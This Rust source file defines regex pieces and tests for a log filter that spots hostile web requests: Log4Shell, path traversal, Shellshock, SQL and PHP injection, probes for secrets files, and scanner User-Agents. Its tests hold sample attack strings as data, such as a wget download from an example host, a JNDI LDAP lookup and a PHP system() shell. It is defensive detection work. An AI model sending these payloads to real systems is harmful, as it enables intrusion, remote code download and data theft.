//! The pieces that every filter may use: requests to web servers by attackers who look for vulnerabilities, the fields of an access
//! log, and what loggers write before a message.
//!
//! No piece matches a request that a browser, a crawler or a mail program makes, even for a site that is broken or was moved,
//! such as one for `.DS_Store`, `autodiscover.json` or missing parts of a page. A site's own pages may share a word with a
//! piece, so every word must be followed by its end, or by the file that makes it hostile. Every alternative of these pieces has a literal of
//! three letters or more, so that none of them runs on every line.
//!
//! Repetitions have no upper limit. A limit would not save work, but multiply the states of the automaton, because each byte may be the
//! first of those that count.

/// The built-in pieces, by name. A definition of the filter with the same name takes precedence.
pub(super) const BUILT_IN: [(&str, &str); 15] = [
    ("http-exploit", EXPLOIT),
    ("http-hostile", HOSTILE),
    ("http-probe", PROBE),
    ("http-guess", GUESS),
    ("http-scanner", SCANNER),
    ("http-path", PATH),
    ("http-get", GET),
    ("json-value", JSON_VALUE),
    ("http-injection", INJECTION),
    ("http-vhost", VHOST),
    ("http-client", CLIENT),
    ("http-user", USER),
    ("http-any-user", ANY_USER),
    ("http-login", LOGIN),
    ("logger", LOGGER),
];

/// The virtual host before the address in an access log. An address, or `-` for a missing header, is not a virtual host: in a `LogFormat` with
/// `%h %{X-Forwarded-For}i` the second word is what the client sent.
const VHOST: &str = r"[0-9A-Za-z_.*~\-]*[A-Za-z_*~][0-9A-Za-z_.*~\-]*(?::[0-9]{1,5})?";

/// The beginning of a line in an access log: an optional virtual host, the address, and no identity.
const CLIENT: &str = "(?:<http-vhost> )?<HOST> - ";

/// A user name in an access log. It contains no address and no word `-`: in a `LogFormat` with `%{X-Forwarded-For}i %h` the header
/// `192.0.2.1 -` would otherwise turn the client's own address into a part of the user name.
const USER: &str = concat!(
    r#"(?:[^\s"\[\]:]*[^\s"\[\]:0-9.\-][^\s"\[\]:]*|[0-9]+)"#,
    r#"(?: +(?:[^\s"\[\]:]*[^\s"\[\]:0-9.\-][^\s"\[\]:]*|[0-9]+))*"#
);

/// The same, or `-` for none, or a user name in quotes.
const ANY_USER: &str = r#"(?:-|<http-user>|"[^"\[\]]*")"#;

/// The target of a request to a login, to its end.
///
/// A word for a login is a word of its own in the path (`/login`, `/users/sign_in`), in camel case (`/doLogin`, `/loginUser`), or has
/// a usual prefix or suffix: `catalogInventory` and `bloginfo` only contain the letters. Some applications use another word, or name
/// the form in the query.
const LOGIN: &str = concat!(
    "(?:(?:",
    r#"(?:/|/[^\s"?]*[^\s"?0-9A-Za-z])(?:(?i:do|user|users|admin|ajax|web|member|customer|client|auth|process|check|api|staff|mobile|account|social|form|page|site|portal|wp|my|app|try|perform|submit|remote|mail|vpn|ldap|sso|local|password|pre|post|is|get)?"#,
    r#"(?:(?i:login|log[-_]in|signin|sign[-_]in|logon|log[-_]on|authenticate)(?i:s|user|check|post|action|form|process|page|submit|verify|api|ajax|handler|do|byname)?[0-9]*)"#,
    r#")|/[^\s"?]*[a-z0-9](?:Log[Ii]n|Sign[Ii]n|Log[Oo]n|Authenticate)s?"#,
    r#"|/(?:[^\s"?]*/)?(?:j_security_check|j_acegi_security_check|api/(?:firstfactor|secondfactor(?:/[a-z0-9\-]{1,40})*)|api2/(?:json|extjs|html)/access/ticket)"#,
    r#")(?:[^\s"0-9a-z][^\s"]*)?"#,
    r#"|/[^\s"?]*\?(?:[^\s"]*&)?(?:_task|_action|action|act|do|q|r|route|task|op|page|mode|view|cmd|controller|module|method|func)=(?:[^\s"&]*(?:[/._]|%2f|%2F))?(?i:login|signin|sign_in|logon|authenticate)(?:&[^\s"]*)?"#,
    ")"
);

/// What a logger writes before the message of a service: its own time (multilog, s6-log, svlogd, the services' own files), the
/// facility (Solaris, AIX).
const LOGGER: &str = concat!(
    r"(?:@[0-9a-f]{24} |[0-9]{4}-[0-9]{2}-[0-9]{2}[T_ ][0-9:]{8}(?:[.,][0-9]{1,9})?(?:Z| ?[+\-][0-9]{2}:?[0-9]{2})? |",
    r"[A-Z][a-z]{2} [ 0-9][0-9] (?:[0-9]{4} )?[0-9:]{8}(?:[.,][0-9]{1,9})? )?",
    r"(?:\[(?:ID [0-9]+ )?[a-z0-9]+\.[a-z]+\]:? )?"
);

/// The method of a request and the beginning of its path. A piece follows.
const PATH: &str = r#"(?:GET|POST|HEAD|PUT|OPTIONS|DELETE) (?:https?://[^/\s"]+)?(?:/[^\s"?]*)?"#;

/// The same for GET and HEAD. Forms that are sent to a login page have their own rules.
const GET: &str = r#"(?:GET|HEAD) (?:https?://[^/\s"]+)?(?:/[^\s"?]*)?"#;

/// A value in JSON that is not an object.
const JSON_VALUE: &str = r#"(?:"(?:[^"\\]|\\.)*"|[\[\]0-9.,eE+\-]+|true|false|null)"#;

/// An attack whatever the answer is, anywhere in a request.
const EXPLOIT: &str = concat!(
    "(?i:",
    // Log4Shell, plain and obfuscated.
    r"\$\{jndi:|%24%7bjndi|\$%7bjndi|\$\{(?:lower|upper|env|sys|date):|\$\{::-|%24%7b%24%7b|\$\{\$\{",
    // Path traversal by three steps or more, or to a sensitive file.
    r"|\.\./\.\./\.\./|%2e%2e(?:/|%2f)%2e%2e(?:/|%2f)%2e%2e|\.\.%2f\.\.%2f\.\.|\.\.%5c\.\.%5c\.\.|\.%2e/\.%2e/|%2e\./%2e\./|%252e%252e(?:/|%2f|%252f)%252e|%c0%ae%c0%ae|%%32%65%%32%65",
    r"|(?:\.\.|%2e%2e|\.%2e|%252e%252e)(?:/|%2f|%252f|%5c)etc(?:/|%2f|%252f|%5c)|(?:\.\.|%2e%2e)(?:/|%2f)proc(?:/|%2f)self",
    r"|[=:](?:file:(?://|%2f%2f))?(?:/|%2f)etc(?:/|%2f)(?:passwd|shadow|hosts)\b",
    r"|/cgi-bin/(?:\.%|%2e|%%32|\.\./)|/icons/(?:\.%|%2e|%%32)",
    // Commands.
    r"|/boaform/admin/formlogin|/gponform/diag_form|/hnap1\b|/setup\.cgi\?next_file=|/shell\?(?:cd|busybox|/bin)",
    r"|(?:;|%3b|\||%7c|`|%60|&&|%26%26|\$\(|%0a)(?:\+|%20)*(?:wget|curl|tftp|chmod|busybox)(?:\+|%20|\$)",
    r"|cd(?:\+|%20)/(?:tmp|var|mnt|dev)\b|cat(?:\+|%20)(?:/|%2f)etc|\$\{ifs\}|[=;|+](?:/|%2f)bin(?:/|%2f)(?:bash|sh\b)|cmd\.exe\?/c|xp_cmdshell",
    // PHP.
    r"|eval-stdin\.php|invokefunction&|=call_user_func|auto_prepend_file(?:=|%3d)|allow_url_include(?:=|%3d)",
    r"|php(?::|%3a)(?:/|%2f){2}(?:input|filter)|expect://|expect%3a%2f%2f|data://text|data%3a%2f%2ftext|base64_decode(?:\(|%28)",
    r"|=(?:https?|ftp)(?:://|%3a%2f%2f)[^\s&]+(?:\.txt\?|\.htm\?|\.dat\?)|/timthumb\.php\?(?:[^\s]+&)?src=http[^\s]+\.php\b",
    r"|\.php[0-9]?\?(?:-|%2d|%ad)[a-z](?:[+&%\s]|$)|/\?-s[+% ]|/\?-d[+% ]|/\?%2d[sd][+% ]|/\?%add[+% ]",
    // Shellshock.
    r"|\(\) \{|\(\)\{|\(\)\+\{|\(\)%20\{|\(\)%20%7b|%28%29%20%7b|%28%29\+%7b",
    r"|/_ignition/execute-solution|element_parents=account|think(?:\\|%5c|/|\\x5c)app",
    // SQL and scripts, in forms that do not occur in a search for these words.
    r"|union(?:\+|%20|/\*\*/|%0a)+(?:all(?:\+|%20|/\*\*/)+)?select(?:\+|%20|/\*\*/)+(?:null|[0-9]+|char|concat|0x[0-9a-f]+|@@[a-z]+|\*|[a-z_.]+)(?:,|%2c|\(|%28|(?:\+|%20)from(?:\+|%20))",
    r"|pg_sleep(?:\(|%28)|waitfor(?:\+|%20)delay|benchmark(?:\(|%28)[0-9]{4}|(?:extractvalue|updatexml)(?:\(|%28)|information_schema\.",
    r"|(?:<|%3c)script[^\s]*(?:>|%3e)(?:alert|prompt|confirm|document)|onerror(?:=|%3d)(?:alert|prompt|confirm)|javascript(?::|%3a)(?:alert|prompt|confirm)(?:\(|%28)",
    // Names of scanners in a path.
    r"|w00tw00t|muieblackcat|/nmaplowercheck|/nmapuppercheck|/nmap/folder/|/nice%20ports",
    // ProxyShell. Outlook also requests autodiscover.json.
    r"|/autodiscover\.json[^\s]*(?:powershell|mapi/nspi)",
    ")"
);

/// An attack in a header (User-Agent, Referer), whatever the answer is. A page that quotes such text in its address is a referrer,
/// too, so only forms that work as an attack match.
const INJECTION: &str = concat!(
    "(?i:",
    r"\$\{jndi:|\$#7bjndi|\$\\x7bjndi|%24%7bjndi|\$%7bjndi|\$\{(?:lower|upper|env|sys|date):|\$#7b(?:lower|upper|env):|\$\{::-|\$\{\$\{|%24%7b%24%7b",
    r"|\(\) \{|\(\)\{|\(\) #7b|\(\) \\x7b",
    r"|(?:;|\||`|&&|\$\()[ +]*(?:wget|curl|tftp|busybox)[ +]+(?:-[a-z0-9]+[ +]+)*(?:https?|ftp)://|/bin/(?:ba)?sh -[ci]",
    r"|<\?php|<\?=|eval\(base64|base64_decode\(|jdatabasedriver|auto_prepend_file|php://input",
    r"|pg_sleep\(|waitfor delay|benchmark\([0-9]{4}|sleep\([0-9]{1,3}\)|extractvalue\(|updatexml\(|' or '?1'?='?1",
    r"|union(?: |\+|%20|/\*\*/)+(?:all(?: |\+|%20|/\*\*/)+)?select(?: |\+|%20|/\*\*/)+(?:null|[0-9]+|char|concat)(?:,|%2c|\()",
    r"|<script[^>]{0,40}>(?:alert|prompt|confirm|document)|\.\./\.\./\.\./",
    ")"
);

/// An attack if the request was refused, anywhere in it.
const HOSTILE: &str = concat!(
    "(?i:",
    // A page may contain links with `../../`, so only those in a parameter count.
    r"[=&]/?\.\./\.\./|%2e%2e(?:/|%2f|%5c)|\.%2e/|%2e\./|\.\.%2f\.\.%2f|\.\.%5c\.\.|%252e%252e|%c0%ae|%c0%af|%%32%65",
    r"|(?:/|%2f)etc(?:/|%2f)(?:passwd|shadow)\b|/proc/self\b|/win\.ini\b|/boot\.ini\b",
    r"|<script|%3cscript|%0d%0aset-cookie|%00\.|rest_route=/wp/v2/users",
    ")"
);

/// Files that only somebody looking for vulnerabilities requests. Used after a path.
const PROBE: &str = concat!(
    "(?i:",
    // Files in home directories and working copies.
    r"/\.env\b|/\.git[a-z\-]*\b|/\.svn\b|/\.hg\b|/\.bzr\b|/\.cvsignore\b|/cvs/(?:root|entries)\b|/\.aws\b|/\.azure\b|/\.kube\b|/\.docker",
    r"|/\.ssh\b|/\.npmrc\b|/\.pypirc\b|/\.netrc\b|/\.ht(?:passwd|access|digest)|/\.bash|/\.zsh|/\.profile\b|/\.[a-z]{2,12}_history\b|/\.history\b",
    r"|/\.rhosts\b|/\.shosts\b|/\.passw|/\.pgpass\b|/\.my\.cnf\b|/\.vscode\b|/\.idea\b|/\.ftpconfig\b|/\.sftp|/\.s3cfg\b|/\.boto\b|/\.terraform",
    r"|/\.travis\.yml\b|/\.circleci\b|/\.subversion\b|/\.forward\b|/\.listing\b|/\.config/|/\.local/|/\.wp-config|/\.secret|/\.credential",
    // Keys and settings.
    r"|/id_rsa\b|/id_dsa\b|/id_ecdsa\b|/id_ed25519\b|/authorized_keys\b|/server\.key\b|/private\.key\b|/privatekey|/aws-credentials|/credentials\.(?:json|ya?ml|txt|csv|xml)",
    r"|/secrets?\.(?:json|ya?ml|txt)\b|/sftp-config\.json|/sftp\.json|/ws_ftp\.|/docker-compose[a-z.\-]*\.ya?ml|/web\.config\b|/appsettings\.json|/application\.(?:properties|ya?ml)\b",
    r"|/wp-config|\.php~|\.php\.(?:bak|old|save|swp|swo|orig|txt|dist|zip)\b|/config\.(?:inc|json|ya?ml)\.(?:bak|old|save|swp|orig)\b|/parameters\.ya?ml\b|/database\.ya?ml\b",
    r"|(?:/backups?\.|/dump\.|/database\.|/mysql\.|/site\.|/www\.|/wwwroot\.|/public_html\.|/htdocs\.|/db\.)(?:zip|tar|tgz|rar|sql|bak)\b|/wp-content/debug\.log|/laravel\.log\b",
    r"|/phpinfo\b|/php-info\b|/php_info\b|/infophp\.php|/_profiler/phpinfo|/telescope/requests|/_ignition/|/vendor/(?:phpunit|\.|composer/installed)|/phpunit/(?:phpunit|src|util|license)\b",
    // Routers and appliances.
    r"|/boaform/|/gponform/|/goform/|/setup\.cgi\b|/currentsetting\.htm|/tmunblock\.cgi|/hndunblock\.cgi|/device\.rsp\b|/wanipcn\.xml|/picsdesc\.xml|/ctrlt/|/ud/act\b|/evox/about",
    r"|/remote/(?:fgt_lang|login\?lang=|logincheck|hostcheck_validate)|/dana-na/|/dana-cached/|/global-protect/(?:login|prelogin|getconfig|portal)|/ssl-vpn/(?:login|prelogin|hipreport|getconfig)",
    r"|/\+cscoe\+/|/\+cscol\+/|/vpns?/(?:cfg|portal|\.\.)|/mgmt/tm/|/tmui/|/portal/redlion|/vtigercrm|/a2billing/|/level/[0-9]{1,2}/exec/",
    // Application servers.
    r"|/solr/admin|/manager/html\b|/host-manager/|/invoker/(?:jmx|ejb|readonly)|/jmx-console|/axis2/axis2|/axis2-admin|/struts2?-showcase|/struts/utils|/wls-wsat/|/_async/|/console/login/loginform",
    r"|/jenkins/script\b|/hudson/script\b|/jolokia\b|/api/jsonws/invoke|/druid/(?:index|coordinator)|/nacos/",
    r"|/actuator/(?:env|heapdump|gateway|jolokia|mappings|threaddump|dump|trace|httptrace|logfile|beans|configprops|refresh|shutdown)\b",
    r"|/ecp/(?:current/|default\.|proxylogon|[a-z0-9]+\.js\b)|/owa/auth/x\.js|/aspnet_client/[^\s?]*\.aspx|/_vti_(?:bin|pvt|inf)|/msadc/|/default\.ida\b|/scripts/root\.exe|/cmd\.exe\b",
    // PHP: WordPress, proxies, web shells that other attackers may have left.
    r"|/wp-json/wp/v2/users\b|/wlwmanifest\.xml|/wp-admin/(?:setup-config|install)\.php|/wp-content/uploads/[^\s?]+\.php\b|/wp_filemng|/connector\.minimal\.php|/azenv\.php|/proxyheader\.php",
    r"|/scripts/setup\.php|/php-?my-?admin[0-9._\-]*/(?:scripts|setup)\b|/phpmoadmin|(?:/shell|/webshell|/cmd|/c99|/r57|/wso[0-9]{0,4}|/b374k|/alfa[a-z0-9_\-]*|/marijuana|/indoxploit|/leafmailer|/priv8|/xleet|/gel4y|/adminfuns)\.php\b",
    r"|(?:/ioxi[a-z0-9_\-]*|/wp-conflg|/lock360|/atomlib|/xmrlpc)\.php\b|/alfa_data/|/alfacgiapi",
    r"|/cgi-bin/(?:luci\b|test-cgi|printenv|kerbynet|jarrewrite|mainfunction|supervisor|viewlog|nobody|authlogin|config\.exp|[^\s?]*\.sh\b|php[0-9]?\b|php-cgi|bash\b)",
    ")"
);

/// Programs that bots look for at every site, and that a person may look for at the wrong one. Used at the end of a path.
const GUESS: &str = concat!(
    "(?i:(?:/php-?my-?admin[0-9._\\-]*|/pma[0-9._\\-]*|/myadmin|/mysql-?admin|/mysqlmanager|/db-?admin|/sqlmanager|/sqlweb|/websql|/phppgadmin|/pgadmin[0-9]?|/phpldapadmin",
    "|/adminer[0-9._\\-]*(?:\\.php)?|/v?-?webmail[0-9]?|/mails?|/extmail|/roundcube(?:mail)?|/horde[0-9]?|/squirrelmail|/rainloop|/snappymail|/owa|/exchange|/zimbra|/geoserver/web",
    "|/wp-login\\.php|/wp-admin(?:\\.php)?|/wp-signup\\.php|/wordpress|/xmlrpc\\.php|/administrator|/info\\.php|/test\\.php|/admin/config\\.php|/cgi-bin/[^\\s?,'\"]*)(?:/|/index\\.php)?)"
);

/// Names of attack tools in the User-Agent header.
const SCANNER: &str = concat!(
    "(?i:sqlmap|nikto|masscan|zgrab|nmap scripting engine|nuclei|wpscan|dirbuster|gobuster|feroxbuster|fuzz faster|wfuzz|acunetix|netsparker|openvas|nessus|w3af|havij|zmeu|morfeus",
    "|muieblackcat|jorgee|whatweb|fimap|arachni|skipfish|jaeles|commix|libredtail|l9explore|l9tcpid|hello,? ?world/|xfa1|the beast\\b|toata dragostea|datacha0s)"
);

#[cfg(test)]
mod tests {
    use regex_syntax::hir::HirKind;

    use super::*;
    use crate::literal;

    fn hir(pattern: &str) -> regex_syntax::hir::Hir {
        regex_syntax::ParserBuilder::new().unicode(false).utf8(false).build().parse(pattern).unwrap()
    }

    #[test]
    fn every_alternative_has_a_literal() {
        let lists = BUILT_IN.iter().filter(|(_, piece)| piece.starts_with("(?i:"));
        for (name, piece) in lists {
            let all = hir(piece);
            let mut count = 0;
            let mut without_literal = Vec::new();
            let mut look = |hir: &regex_syntax::hir::Hir| {
                let sets = literal::required(hir);
                count += sets.first().map_or(0, Vec::len);
                if sets.is_empty() {
                    without_literal.push(hir.to_string());
                }
            };
            match all.kind() {
                HirKind::Alternation(branches) => branches.iter().for_each(&mut look),
                _ => look(&all),
            }
            assert!(without_literal.is_empty(), "{name}: {without_literal:#?}");
            assert!(!literal::required(&all).is_empty(), "{name}: {count} literals are too many");
        }
    }

    fn matches(piece: &str, text: &str) -> bool {
        regex::bytes::RegexBuilder::new(piece).unicode(false).build().unwrap().is_match(text.as_bytes())
    }

    /// Whether the piece matches a request for `target`, after a path.
    fn matches_request(piece: &str, target: &str) -> bool {
        matches(&format!("^{PATH}(?:{piece})"), &format!("GET {target} HTTP/1.1\" 404"))
    }

    #[test]
    fn requests_of_attackers_match() {
        for target in [
            "/?x=${jndi:ldap://a/b}",
            "/?x=%24%7Bjndi:ldap",
            "/${${lower:j}ndi:ldap://a}",
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
            "/icons/.%%32%65/x",
            "/page?file=../../../../etc/passwd",
            "/x?f=/etc/shadow",
            "/..%2f..%2f..%2fetc",
            "/boaform/admin/formLogin?username=a",
            "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/a",
            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm",
            "/?x=1;wget%20http://192.0.2.9/a",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
            "/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
            "/?q=1+UNION+ALL+SELECT+1,2,3--",
            "/?q=1+union+select+password+from+users",
            "/?q=-1%20union%20select%20null,concat(user,0x3a)",
            "/?id=1;SELECT+pg_sleep(5)",
            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/a.php?page=http://192.0.2.9/shell.txt??",
            "/autodiscover/autodiscover.json?@x.com/mapi/nspi/?&Email=x",
            "/w00tw00t.at.ISC.SANS.DFind:)",
            "/index.php?-s HTTP/1.1",
            "/?-d+allow_url_include%3don HTTP/1.1",
            "/cgi-bin/x?a=()%20%7b%20:;%7d;",
        ] {
            assert!(matches(EXPLOIT, target), "{target}");
        }
        for header in [
            "() { :;};/usr/bin/perl -e x",
            "() { ignored; }; /bin/bash -c id",
            "${jndi:ldap://192.0.2.66:1389/a}",
            "${${lower:j}ndi:rmi://a}",
            "Mozilla/5.0; wget http://192.0.2.9/a.sh",
            "<?php system($_GET[0]); ?>",
            "' or '1'='1",
            "1' AND SLEEP(5)--",
            "-1' union select 1,2,3--",
            "<script>alert(1)</script>",
            "../../../etc/passwd",
        ] {
            assert!(matches(INJECTION, header), "{header}");
        }
        for target in [
            "/.env",
            "/app/.env.bak",
            "/.git/config",
            "/.gitignore",
            "/.aws/credentials",
            "/.ssh/id_rsa",
            "/.bash_history",
            "/.htpasswd",
            "/wp-config.php.bak",
            "/config.php~",
            "/backup.sql",
            "/db.tar.gz",
            "/phpinfo.php",
            "/boaform/x",
            "/HNAP1/",
            "/actuator/env",
            "/solr/admin/info/system?wt=json",
            "/manager/html",
            "/blog/wp-includes/wlwmanifest.xml",
            "/wp-json/wp/v2/users",
            "/wp-content/uploads/2020/x.php",
            "/alfa.php",
            "/remote/fgt_lang?lang=/../../",
            "/phpMyAdmin/scripts/setup.php",
            "/cgi-bin/luci/;stok=/locale",
            "/ecp/current/exporttool/x",
        ] {
            assert!(matches_request(PROBE, target) || matches(EXPLOIT, target), "{target}");
        }
        for target in [
            "/phpmyadmin/",
            "/pma2020",
            "/admin/phpMyAdmin/index.php?lang=en",
            "/webmail",
            "/wp-login.php",
            "/adminer-4.8.1.php",
        ] {
            assert!(matches_request(&format!("{GUESS}(?:\\?[^\\s]*)? HTTP/"), target), "{target}");
        }
    }

    #[test]
    fn a_login_is_a_word_of_its_own() {
        let is_login = |target: &str| matches(&format!("^{LOGIN} HTTP"), &format!("{target} HTTP/1.1"));
        for target in [
            "/login",
            "/login.php?x",
            "/api/v1/login/",
            "/users/sign_in",
            "/doLogin",
            "/loginUser",
            "/userlogin",
            "/admin_login.php",
            "/Account/Login?ReturnUrl=%2F",
            "/Users/AuthenticateByName",
            "/j_security_check",
            "/api/secondfactor/totp",
            "/?_task=login",
            "/index.php?option=com_users&task=user.login",
        ] {
            assert!(is_login(target), "{target}");
        }
        for target in [
            "/rest/V1/catalogInventory",
            "/api/bloginfo",
            "/ui/dialogInput",
            "/logInventory",
            "/analogin",
            "/technologInsight",
            "/blogin-post",
            "/?next=/login",
            "/?q=how+to+login",
        ] {
            assert!(!is_login(target), "{target}");
        }
    }

    #[test]
    fn requests_of_honest_clients_do_not_match() {
        for target in [
            "/",
            "/favicon.ico",
            "/robots.txt",
            "/.well-known/acme-challenge/x",
            "/.well-known/security.txt",
            "/apple-touch-icon-precomposed.png",
            "/webdav/.DS_Store",
            "/autodiscover/autodiscover.xml",
            "/autodiscover/autodiscover.json?Email=bob%40example.org&Protocol=ActiveSync",
            "/autodiscover/autodiscover.json/v1.0/bob@example.org?Protocol=ActiveSync",
            "/ews/exchange.asmx",
            "/Microsoft-Server-ActiveSync?Cmd=Sync",
            "/typo3conf/ext/site/Resources/Public/x.css",
            "/geoserver/gwc/service/wms?x",
            "/alfa-romeo/giulia",
            "/locations/hudson",
            "/docs/phpunit/assertions.html",
            "/telescope/celestron",
            "/struts-and-shocks",
            "/phpmyadmin/js/vendor/bootstrap.bundle.min.js.map",
            "/webmail/skins/elastic/x.css",
            "/wp-content/themes/x/style.css",
            "/wp-content/plugins/x/ajax.php",
            "/timthumb.php?src=/uploads/a.jpg",
            "/actuator/health",
            "/actuator/prometheus",
            "/admin/",
            "/login?next=/wp-admin/",
            "/?q=union+select+committee",
            "/?q=dog|cat+food",
            "/css?family=Open+Sans|Roboto",
            "/search?q=etc",
            "/src/tree/bin/sh/main.c",
            "/redirect?url=https://example.com/page.html",
            "/share.php?u=http://example.com/a?b",
            "/img/${path}/logo.png",
            "/environment",
            "/gitlab/project",
            "/processing?windows=1",
            "/mailman/listinfo/users",
            "/owa-guide",
            "/server-status?auto",
            "/docs/path/../../img.png",
            "/index.php?-",
            "/search?q=f()+x",
        ] {
            let path = format!("{GUESS}(?:\\?[^\\s]*)? HTTP/");
            assert!(!matches(EXPLOIT, target), "exploit: {target}");
            assert!(!matches(HOSTILE, target), "hostile: {target}");
            assert!(!matches_request(PROBE, target), "probe: {target}");
            assert!(!matches_request(&path, target), "guess: {target}");
        }
        for agent in [
            "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
            "curl/8.5.0",
            "python-requests/2.31",
            "Googlebot/2.1",
        ] {
            assert!(!matches(SCANNER, agent), "{agent}");
            assert!(!matches(INJECTION, agent), "{agent}");
        }
        for referrer in [
            "https://example.org/search?q=how+to+use+union+all+select+in+sql",
            "https://example.org/search?q=etc/passwd",
            "https://example.org/blog/what-is-jndi-ldap",
            "https://example.org/a?next=/b/../c",
            "Mozilla/5.0 (compatible; curl/8.5; wget)",
        ] {
            assert!(!matches(INJECTION, referrer), "{referrer}");
        }
    }
}
